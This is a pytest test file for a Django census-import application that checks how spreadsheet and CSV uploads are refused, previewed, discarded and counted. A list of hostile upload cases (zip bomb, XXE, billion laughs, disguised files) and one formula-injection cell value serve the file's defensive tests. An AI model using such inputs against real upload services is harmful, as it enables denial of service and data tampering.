        "truncated_xlsx": lambda: (files.write_bytes(tmp_path / "cut.xlsx", good_xlsx.read_bytes()[:300]), "Excel 文件已损坏，无法打开"),
        "text_junk_csv": lambda: (files.write_bytes(tmp_path / "dump.csv", b'"' + b"A" * (2 * MIB)), "CSV 文件格式错误"),
        # Not UTF-8, not GB18030 (0xFF leads no character), and no UTF-16 byte order mark (FF FE / FE FF).
        "undecodable_csv": lambda: (files.write_bytes(tmp_path / "bytes.csv", b"\xff\xfa\xfb\xfe" * 100), "无法识别 CSV 文件的编码：请使用 UTF-8、GBK 或 UTF-16"),
    }
    return builders[kind]()


HOSTILE = [
    "junk_20mb_xlsx", "junk_20mb_csv", "png_as_xlsx", "png_as_csv", "pdf_as_xlsx", "broken_xls", "legacy_xls_as_xlsx",
    "xlsx_as_csv", "unsupported_suffix", "zip_bomb", "many_entries", "lying_zip", "docx_as_xlsx", "corrupt_xlsx",
    "truncated_xlsx", "text_junk_csv", "undecodable_csv", "xxe", "billion_laughs",
]


# Refused on upload, from the file's first bytes and its archive directory: nothing is stored. The others
# are found while reading (encoding, broken sheets): the preview fails with the reason.
REFUSED_ON_UPLOAD = {
    "junk_20mb_xlsx", "junk_20mb_csv", "png_as_xlsx", "png_as_csv", "pdf_as_xlsx", "legacy_xls_as_xlsx",
    "xlsx_as_csv", "unsupported_suffix", "zip_bomb", "many_entries", "docx_as_xlsx", "truncated_xlsx",
    "lying_zip", "xxe", "billion_laughs",
}


@pytest.mark.django_db
@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_files_are_refused_with_a_clear_error(tonghai_official, campaign, registered, tmp_path, kind, settings):
    path, message = _hostile(tmp_path, kind)
    before, records = snapshot(), CensusImport.objects.count()

    if kind in REFUSED_ON_UPLOAD:
        with pytest.raises(FileRejected) as refused:
            upload(tonghai_official, path, campaign)
        assert str(refused.value).startswith(message), str(refused.value)
        assert CensusImport.objects.count() == records
        assert not (Path(settings.MEDIA_ROOT) / "census").exists()  # no file kept either
    else:
        record = import_file(tonghai_official, path, campaign, commit=True, valid_only=True)
        assert record.status == ImportStatus.FAILED
        assert record.message.startswith(message), record.message
        # refused as a whole: the record keeps the reason, the file is not kept (issue 18)
        assert not record.file.name and not record.error_report.name and record.files_deleted_at is not None
        assert not [p for p in (Path(settings.MEDIA_ROOT) / "census").rglob("*") if p.is_file()]
    with pytest.raises(FileRejected):
        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))
    assert snapshot() == before


@pytest.mark.django_db
def test_the_upload_page_refuses_a_disguised_file_on_the_form_and_stores_nothing(tonghai_official, campaign, client_for, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    records = CensusImport.objects.count()
    response = client_for(tonghai_official).post(
        "/census/imports/upload/", {"campaign": campaign.pk, "file": SimpleUploadedFile("名单.xlsx", files.PDF_BYTES)}
    )

    assert response.status_code == 400
    assert "“名单.xlsx”不是有效的 Excel 文件（内容不是 xlsx 或 xls 格式）" in response.content.decode()
    assert CensusImport.objects.count() == records
    assert not (Path(settings.MEDIA_ROOT) / "census").exists()


@pytest.mark.django_db
def test_the_import_page_offers_no_commit_without_valid_rows_and_confirms_a_commit(tonghai_official, campaign, client_for, tmp_path):
    client = client_for(tonghai_official)
    bad = import_file(tonghai_official, files.write_xlsx(tmp_path / "bad.xlsx", SHORT_HEADERS, [row(姓名="甲", 身份证号码="123", 类别="侨眷", 居住地区划代码="530423101")]), campaign, commit=False)
    page = client.get(f"/census/imports/{bad.pk}/").content.decode()
    assert 'data-testid="nothing-valid"' in page and "commit-valid" not in page and "commit-all" not in page

    number = files.ids("530423", 1, seed=33)[0]
    good = import_file(tonghai_official, files.write_xlsx(tmp_path / "good.xlsx", SHORT_HEADERS, [row(姓名="乙", 身份证号码=number, 类别="侨眷", 居住地区划代码="530423101")]), campaign, commit=False)
    assert 'data-testid="commit-all"' in client.get(f"/census/imports/{good.pk}/").content.decode()
    response = client.post(f"/census/imports/{good.pk}/commit/", {"mode": "all"}, follow=True)
    assert "已导入：新增 1 人，更新 0 人，核实未变 0 人" in response.content.decode()


@pytest.mark.django_db
def test_a_discarded_preview_deletes_its_files_and_keeps_the_record(
    tonghai_official, census_staff, campaign, client_for, tmp_path, django_capture_on_commit_callbacks
):
    from census.importing.checked import checked_path
    from census.importing.services import census_import_discard

    good, bad = files.ids("530423", 2, seed=34)
    rows = [row(姓名="甲", 身份证号码=good, 类别="侨眷", 居住地区划代码="530423101"), row(姓名="乙", 身份证号码=bad, 类别="外星人", 居住地区划代码="530423101")]
    record = import_file(tonghai_official, files.write_xlsx(tmp_path / "two.xlsx", SHORT_HEADERS, rows), campaign, commit=False)
    kept = [Path(record.file.path), Path(record.error_report.path), checked_path(Path(record.file.path))]
    assert all(path.exists() for path in kept)
    client = client_for(tonghai_official)
    assert 'data-testid="discard"' in client.get(f"/census/imports/{record.pk}/").content.decode()
    # another official of the county sees the import but may not discard what they did not upload
    with pytest.raises(PermissionDenied):
        census_import_discard(record=record, user=census_staff)

    with django_capture_on_commit_callbacks(execute=True):  # the files go once the discard is committed
        response = client.post(f"/census/imports/{record.pk}/discard/", follow=True)

    assert f"已放弃导入 #{record.pk}，上传的文件已删除" in response.content.decode()
    record.refresh_from_db()
    assert (record.status, record.file.name, record.error_report.name) == (ImportStatus.DISCARDED, "", "")
    assert record.message == "已放弃：上传的文件和错误报告已删除" and record.original_name == "two.xlsx"
    assert not any(path.exists() for path in kept)
    assert client.get(f"/census/imports/{record.pk}/file/").status_code == 404
    assert client.get(f"/census/imports/{record.pk}/errors.xlsx").status_code == 404
    page = client.get(f"/census/imports/{record.pk}/").content.decode()
    assert "已放弃" in page and 'data-testid="discard"' not in page and "commit-valid" not in page
    with pytest.raises(ValidationError, match="请先预览"):
        census_import_request(record=record, user=tonghai_official, commit=True, inline=True)
    assert Person.objects.count() == 0


@pytest.mark.django_db
def test_a_committed_import_cannot_be_discarded(tonghai_official, campaign, tmp_path):
    from census.importing.services import census_import_discard

    path = files.write_xlsx(tmp_path / "one.xlsx", SHORT_HEADERS, [row(姓名="甲", 身份证号码=files.ids("530423", 1, seed=35)[0], 类别="侨眷", 居住地区划代码="530423101")])
    record = import_file(tonghai_official, path, campaign, commit=True)
    assert record.status == ImportStatus.COMMITTED
    with pytest.raises(ValidationError, match="只能放弃未写入数据"):
        census_import_discard(record=record, user=tonghai_official)
    record.refresh_from_db()
    assert record.status == ImportStatus.COMMITTED and Path(record.file.path).exists()


@pytest.mark.django_db
def test_a_file_over_the_size_limit_is_refused_before_it_is_stored(tonghai_official, campaign, tmp_path, settings):
    limit = settings.CENSUS_UPLOAD_MAX_BYTES
    path = files.write_sparse(tmp_path / "huge.xlsx", limit + 1)
    record = import_record(tonghai_official, campaign)  # as a command-line or job caller would hold one
    before, records = snapshot(), CensusImport.objects.count()

    with pytest.raises(FileRejected, match=r"^文件大小 .+ 超过上限 "):
        upload(tonghai_official, path, campaign)
    with pytest.raises(FileRejected, match="超过上限"):
        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=record)

    assert CensusImport.objects.count() == records
    assert snapshot() == before
    assert not (Path(settings.MEDIA_ROOT) / "census").exists()


@pytest.mark.django_db
def test_an_empty_file_is_refused(tonghai_official, campaign, tmp_path):
    path = files.write_bytes(tmp_path / "empty.csv", b"")
    with pytest.raises(FileRejected, match="文件是空的"):
        upload(tonghai_official, path, campaign)


@pytest.mark.django_db
def test_control_characters_do_not_break_the_error_report(tonghai_official, campaign, tmp_path):
    """NUL and other control characters cannot be written to an .xlsx: the report must still be made, listing the
    row they refuse (tests/census/test_import_control_characters.py: the rule in full)."""
    number = files.ids("530423", 1, seed=51)[0]
    rows = [
        ["张三", "", "", number, "侨眷", "530423101", "", "", "x" * 5000],  # pushes the NUL past the sniffed head
        ["=\x00李\x01四\x1f", "", "", "123", "侨眷", "530423101", "", "", "\x07bell"],
    ]
    path = files.write_csv(tmp_path / "ctrl.csv", SHORT_HEADERS, rows)

    record = import_file(tonghai_official, path, campaign, commit=False)

    assert record.status == ImportStatus.PREVIEWED, record.message
    assert record.invalid == 1
    assert [(e["row"], e["column"], e["value"]) for e in record.errors] == [
        (3, "姓名", "=\\x00李\\x01四\\x1f"), (3, "备注", "\\x07bell"), (3, "证件号码", "123"),
    ]
    report = load_workbook(record.error_report.open("rb")).active
    assert report.cell(row=2, column=1).value == 3
    assert report.cell(row=2, column=2).value == "'=李四"  # control characters dropped, then escaped
    assert report.cell(row=2, column=10).value == "bell"
    assert "控制字符 \\x00、\\x01、\\x1f" in report.cell(row=2, column=11).value


# ---------------------------------------------------------------- the template


def test_template_has_chinese_headers_and_drop_downs():
    from io import BytesIO

    book = load_workbook(BytesIO(census_template_workbook(max_rows=50)))
    sheet = book["侨情登记"]
    headers = [c.value for c in sheet[1]]
    assert headers[:7] == ["姓名", "性别", "出生日期", "证件类型", "证件号码", "类别", "居住地区划代码"]
    lists = {str(dv.sqref)[0]: dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert lists["F"] == '"归侨,侨眷,华侨,外籍华人,留学人员,留学人员眷属"'
    assert lists["D"] == '"居民身份证,护照,港澳居民来往内地通行证,台湾居民来往大陆通行证,外国人永久居留身份证,港澳台居民居住证,其他"'
    assert lists["B"] == '"男,女"'
    # ID, region and phone columns are text (Excel keeps all 18 digits) on every row the drop-downs cover,
    # and as the columns' style for rows typed below them
    assert str(next(dv.sqref for dv in sheet.data_validations.dataValidation if dv.formula1.startswith('"归侨'))) == "F2:F51"
    for column in ("E", "G", "J"):
        assert sheet[f"{column}2"].number_format == sheet[f"{column}51"].number_format == "@"
        assert sheet.column_dimensions[column].number_format == "@"
    assert sheet["A51"].number_format == "General"
    assert "填写说明" in book.sheetnames


@pytest.mark.django_db
def test_the_filled_template_imports(tonghai_official, campaign, tmp_path):
    from io import BytesIO

    book = load_workbook(BytesIO(census_template_workbook(max_rows=10)))
    sheet = book["侨情登记"]
    number = files.ids("530423", 1, seed=61)[0]
    for column, value in {"A": "张三", "E": number, "F": "华侨", "G": "530423102", "I": "泰国"}.items():
        sheet[f"{column}2"] = value
    path = tmp_path / "template.xlsx"
    book.save(path)

    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, record=import_record(tonghai_official, campaign))
    assert (outcome.rows, outcome.new, outcome.invalid) == (1, 1, 0), outcome.errors


@pytest.mark.django_db
def test_a_commit_needs_the_import_record(tonghai_official, campaign, tmp_path):
    """The people an import registers point to its record; without one nothing is read or written."""
    path = files.write_xlsx(tmp_path / "a.xlsx", SHORT_HEADERS, [row(姓名="甲", 身份证号码=files.ids("530423", 1, seed=90)[0], 类别="归侨", 居住地区划代码="530423101")])
    with pytest.raises(TypeError, match="CensusImport"):
        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
    assert Person.objects.count() == 0


@pytest.mark.django_db
def test_a_registered_id_written_another_way_is_still_matched(tonghai_official, campaign, tmp_path, places):
    """IDs are looked up in the registry while the rows are checked, as written; an ID the checks
    must first normalise (spaces, a lower-case x) is looked up afterwards and still matches."""
    numbers = files.ids("530423", 3, seed=92)
    plain = files.write_xlsx(
        tmp_path / "plain.xlsx", SHORT_HEADERS, [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101") for i, n in enumerate(numbers)]
    )
    assert import_file(tonghai_official, plain, campaign, commit=True).new == 3
    written = [numbers[0][:6] + " " + numbers[0][6:], f" {numbers[1]} ", numbers[2].lower()]
    again = files.write_xlsx(
        tmp_path / "again.xlsx", SHORT_HEADERS, [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101") for i, n in enumerate(written)]
    )
    record = import_file(tonghai_official, again, campaign, commit=True)
    assert (record.new, record.updated, record.unchanged, record.invalid) == (0, 0, 3, 0)
    assert Person.objects.count() == 3


@pytest.mark.django_db
def test_headcounts_after_imports_equal_a_recount(tonghai_official, campaign, school, tmp_path, places):
    """Imports add their changes to the headcounts (new people, moves between villages, units and
    categories); the result is what counting every person again gives."""
    from census.registry.headcounts import headcounts_rebuild

    numbers = files.ids("530423", 6, seed=93)
    first = [
        row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷" if i % 2 else "归侨", 居住地区划代码="530423101", 工作单位="通海县第一中学" if i < 3 else "")
        for i, n in enumerate(numbers)
    ]
    import_file(tonghai_official, files.write_xlsx(tmp_path / "a.xlsx", SHORT_HEADERS, first), campaign, commit=True)
    second = [
        row(姓名="人0", 身份证号码=numbers[0], 类别="归侨", 居住地区划代码="530423102", 工作单位="通海县第一中学"),  # moved
        row(姓名="人1", 身份证号码=numbers[1], 类别="归侨", 居住地区划代码="530423101", 工作单位=""),  # category, unit left
        row(姓名="人2", 身份证号码=numbers[2], 类别="归侨", 居住地区划代码="530423101", 工作单位="通海县第一中学"),  # unchanged
        row(姓名="新人", 身份证号码=files.ids("530423", 1, seed=94)[0], 类别="华侨", 居住地区划代码="530423102"),  # new
    ]
    record = import_file(tonghai_official, files.write_xlsx(tmp_path / "b.xlsx", SHORT_HEADERS, second), campaign, commit=True)
    assert (record.new, record.updated, record.unchanged) == (1, 2, 1)

    def counts():
        rows = Headcount.objects.filter(campaign=campaign).values_list("region_id", "unit_id", "category", "count")
        return sorted(rows, key=lambda r: (r[0], r[1] or 0, r[2]))

    added = counts()
    headcounts_rebuild(campaign=campaign)
    assert added == counts()
    assert (places["hexi"].pk, None, "relative", 2) in added and all(n > 0 for *_k, n in added)


@pytest.mark.django_db
def test_rebuild_headcounts_repairs_counts_changed_behind_the_registry(tonghai_official, campaign, tmp_path, places):
    from io import StringIO

    from django.core.management import CommandError, call_command

    numbers = files.ids("530423", 4, seed=95)
    path = files.write_xlsx(tmp_path / "a.xlsx", SHORT_HEADERS, [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101") for i, n in enumerate(numbers)])
    import_file(tonghai_official, path, campaign, commit=True)
    Headcount.objects.filter(campaign=campaign, region=places["hexi"], unit=None).update(count=99)  # e.g. a fix made in SQL

    out = StringIO()
    call_command("rebuild_headcounts", "--campaign", "2026", stdout=out)

    assert out.getvalue().startswith("campaign=2026 region=530400 rows=1 ")
    assert Headcount.objects.get(campaign=campaign, region=places["hexi"], unit=None, category="relative").count == 4
    with pytest.raises(CommandError, match="没有 2019 年度的进行中的调查"):
        call_command("rebuild_headcounts", "--campaign", "2019", stdout=StringIO())


@pytest.mark.django_db
@pytest.mark.skipif(connection.vendor != "postgresql", reason="the registry is searched in the background on PostgreSQL only")
def test_a_registry_search_that_fails_in_the_background_fails_the_import(census_staff, monkeypatch):
    """Not "nobody is registered": a preview that took every row for a new person would report them so."""
    tonghai = Region.objects.get(code="530423")
    registered = person_create(
        region=tonghai, editor=census_staff, name="张三", category="returned", id_number=valid_id(1),
    )
    searched = RegistryLookup([registered.id_number_hash], background=True)
    assert set(searched.people([registered.id_number_hash])) == {registered.id_number_hash}

    def refused(cls, hashes, *, cursor=None):
        if hashes:  # people() asks again, synchronously, only for hashes the background was not given: none here
            raise RuntimeError("the index probe failed")
        return {}

    monkeypatch.setattr(RegistryLookup, "_fetch", classmethod(refused))
    searched = RegistryLookup([registered.id_number_hash], background=True)
    with pytest.raises(RuntimeError, match="the index probe failed"):
        searched.people([registered.id_number_hash])
